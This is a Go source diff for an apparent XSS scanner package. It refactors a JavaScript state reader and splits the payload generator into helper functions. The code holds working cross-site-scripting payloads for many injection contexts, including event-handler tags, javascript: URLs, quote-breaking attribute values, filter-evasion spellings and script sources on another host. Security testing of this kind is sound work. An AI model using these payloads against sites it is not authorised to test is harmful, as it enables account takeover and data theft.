@@ -1,6 +1,7 @@
 package xss
 
 import (
+	"bytes"
 	"fmt"
 	"slices"
 	"strings"
@@ -238,60 +239,76 @@ func isSpace(c byte) bool { return c == ' ' || c == '\t' || c == '\n' || c == '\
 // scriptStates returns the states of a script in which the word stands.
 func scriptStates(script, word string) []byte {
 	var out []byte
-	state, last := byte(0), byte(0)
+	var at scriptPosition
 	for i := 0; i < len(script); i++ {
 		if strings.HasPrefix(script[i:], word) {
-			seen := false
-			for _, s := range out {
-				seen = seen || s == state
-			}
-			if !seen {
-				out = append(out, state)
+			if bytes.IndexByte(out, at.state) < 0 {
+				out = append(out, at.state)
 			}
 			i += len(word) - 1
-			last = 'w'
+			at.last = 'w'
 			continue
 		}
-		c := script[i]
-		switch state {
-		case 0:
-			next := byte(0)
-			if i+1 < len(script) {
-				next = script[i+1]
-			}
-			switch {
-			case c == '\'' || c == '"' || c == '`':
-				state = c
-			case c == '/' && (next == '/' || next == '*'):
-				state = next
-				i++
-			case c == '/' && strings.IndexByte("(,=:[!&|?{};+\x00", last) >= 0:
-				state = 'r'
-			}
-			if !isSpace(c) {
-				last = c
-			}
-		case '/':
-			if c == '\n' {
-				state = 0
-			}
-		case '*':
-			if c == '*' && i+1 < len(script) && script[i+1] == '/' {
-				state = 0
-				i++
-			}
-		default:
-			switch {
-			case c == '\\':
-				i++
-			case c == state || state == 'r' && c == '/':
-				state, last = 0, 'w'
-			case c == '\n' && state != '`':
-				state = 0
-			}
+		next := byte(0)
+		if i+1 < len(script) {
+			next = script[i+1]
 		}
+		i += at.advance(script[i], next)
 	}
 	return out
+}
+
+// A scriptPosition is where in a script the reader is: in code (0), in a string by its
+// quote, in a comment ('/' to the end of the line, '*'), or in a regular expression ('r').
+type scriptPosition struct {
+	state byte
+	last  byte // of the code that is no space: a slash behind an operator begins a regular expression
+}
+
+// advance reads one character and returns how many more belong to it.
+func (p *scriptPosition) advance(c, next byte) int {
+	switch p.state {
+	case 0:
+		return p.advanceCode(c, next)
+	case '/':
+		if c == '\n' {
+			p.state = 0
+		}
+	case '*':
+		if c == '*' && next == '/' {
+			p.state = 0
+			return 1
+		}
+	default:
+		switch {
+		case c == '\\':
+			return 1
+		case c == p.state || p.state == 'r' && c == '/':
+			p.state, p.last = 0, 'w'
+		case c == '\n' && p.state != '`':
+			p.state = 0
+		}
+	}
+	return 0
+}
+
+// advanceCode reads one character of code: it may begin a string, a comment or a regular
+// expression.
+func (p *scriptPosition) advanceCode(c, next byte) int {
+	more := 0
+	switch {
+	case c == '\'' || c == '"' || c == '`':
+		p.state = c
+	case c == '/' && (next == '/' || next == '*'):
+		p.state = next
+		more = 1
+	case c == '/' && strings.IndexByte("(,=:[!&|?{};+\x00", p.last) >= 0:
+		p.state = 'r'
+	}
+	if !isSpace(c) {
+		p.last = c
+	}
+	return more
 }
 
 // payloadsFor returns values that leave the place, the likeliest first. The word is called
@@ -304,69 +321,85 @@ func (c context) payloadsFor(word string) []string {
 	tags := []string{"<svg onload=" + call + ">", "<img\nsrc=x\nonerror=" + call + "\n>", "<script>" + call +
 		"</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
 		"<a href=javascript:" + call + ">x</a>", "<scr<script>ipt>" + call + "</scr</script>ipt>"}
-	before := func(prefix string, list ...string) []string {
-		out := make([]string, len(list))
-		for i, s := range list {
-			out[i] = prefix + s
-		}
-		return out
-	}
-	q := string(c.quote)
-	if c.quote == 0 {
-		q = ""
-	}
 	switch c.kind {
 	case inText:
 		return tags
 	case inRaw:
-		return before("</"+c.element+">", tags[:5]...)
+		return prefixAll("</"+c.element+">", tags[:5]...)
 	case inComment:
-		return append(before("-->", tags[:4]...), "--!>"+tags[0])
+		return append(prefixAll("-->", tags[:4]...), "--!>"+tags[0])
 	case inStyle:
 		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word +
 			":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
 	case inAddress:
-		leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloadsFor(word)
-		other := "//" + word + ".example/"
-		switch {
-		case c.element == "script" || c.element == "base":
-			return append([]string{other}, leave...)
-		case foreign[c.element] == c.name:
-			return append([]string{"javascript:" + call + "//", other}, leave...)
-		}
-		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//",
-			"javascript://%0a" + call + "//",
-			"javasc&#114;ipt:" + call + "//http://", "javascrscriptipt:" + call + "//"}, leave...)
+		return c.addressPayloads(word, call)
 	case inAttribute:
 		if c.element == "iframe" && c.name == "srcdoc" {
 			c.name = ""
 			return append(tags[:3:3], c.payloadsFor(word)...) // the value is a page
 		}
-		if q == "" {
-			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">",
-				"x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
-		}
-		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q,
-			q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
-			q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" +
-				call + " AUTOFOCUS TABINDEX=1 X=" + q,
-			q + " oonnfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><scrscriptipt>" + call + "</scrscriptipt>"}
+		return c.attributePayloads(call)
 	case inTag:
 		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
 	case inScript:
 		return append(c.codePayloads(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
 	case inHandler:
-		list := c.codePayloads(call)
-		if c.address { // what is encoded twice is decoded when it runs
-			escape := strings.NewReplacer("'", "%27", `"`, "%22", "`", "%60")
-			for _, p := range c.codePayloads(call)[:min(2, len(list))] {
-				list = append(list, escape.Replace(p))
-			}
-		}
-		return append(list, context{kind: inAttribute, element: c.element, name: c.name,
-			quote: c.quote}.payloadsFor(word)...)
+		return c.handlerPayloads(word, call)
 	}
 	return nil
+}
+
+// prefixAll puts a text before each value.
+func prefixAll(prefix string, list ...string) []string {
+	out := make([]string, len(list))
+	for i, s := range list {
+		out[i] = prefix + s
+	}
+	return out
+}
+
+// addressPayloads are addresses of script where the attribute is followed, addresses of
+// another host where it is loaded, and values that leave the attribute.
+func (c context) addressPayloads(word, call string) []string {
+	leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloadsFor(word)
+	other := "//" + word + ".example/"
+	switch {
+	case c.element == "script" || c.element == "base":
+		return append([]string{other}, leave...)
+	case foreign[c.element] == c.name:
+		return append([]string{"javascript:" + call + "//", other}, leave...)
+	}
+	return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//",
+		"javascript://%0a" + call + "//",
+		"javasc&#114;ipt:" + call + "//http://", "javascrscriptipt:" + call + "//"}, leave...)
+}
+
+// attributePayloads end the value of an attribute by its quote, or by a space where it has
+// none, and add a handler or an element.
+func (c context) attributePayloads(call string) []string {
+	if c.quote == 0 {
+		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">",
+			"x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
+	}
+	q := string(c.quote)
+	return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q,
+		q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
+		q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" +
+			call + " AUTOFOCUS TABINDEX=1 X=" + q,
+		q + " oonnfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><scrscriptipt>" + call + "</scrscriptipt>"}
+}
+
+// handlerPayloads leave a string in the script of an event handler, or the attribute.
+func (c context) handlerPayloads(word, call string) []string {
+	list := c.codePayloads(call)
+	if c.address { // what is encoded twice is decoded when it runs
+		escape := strings.NewReplacer("'", "%27", `"`, "%22", "`", "%60")
+		for _, p := range c.codePayloads(call)[:min(2, len(list))] {
+			list = append(list, escape.Replace(p))
+		}
+	}
+	return append(list, context{kind: inAttribute, element: c.element, name: c.name,
+		quote: c.quote}.payloadsFor(word)...)
 }
 
 // evasions are parts of values that are another way to write what one before them says,
